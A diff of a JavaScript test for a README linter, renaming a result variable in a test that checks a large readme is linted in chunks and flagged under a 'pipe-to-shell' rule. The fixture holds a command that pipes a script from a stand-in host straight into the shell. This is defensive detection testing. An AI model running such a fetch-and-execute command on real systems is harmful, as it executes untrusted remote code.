@@ -95,8 +95,8 @@ const longReadme = `Run curl https://a.test/x.sh | sh\n${'Some words.\n'.repeat(
 
 test('a readme of 241 KiB is linted in steps of 32 KiB', async () => {
   const turns = await turnsOf(async () => {
-    const warnings = await lintWithFiles(server.ctx, { ...linted, readme: longReadme }, [])
-    expect(warnings.map(({ rule }) => rule)).toContain('pipe-to-shell')
+    const findings = await lintWithFiles(server.ctx, { ...linted, readme: longReadme }, [])
+    expect(findings.map(({ rule }) => rule)).toContain('pipe-to-shell')
   })
   expect(turns).toBeGreaterThanOrEqual(8)
 })
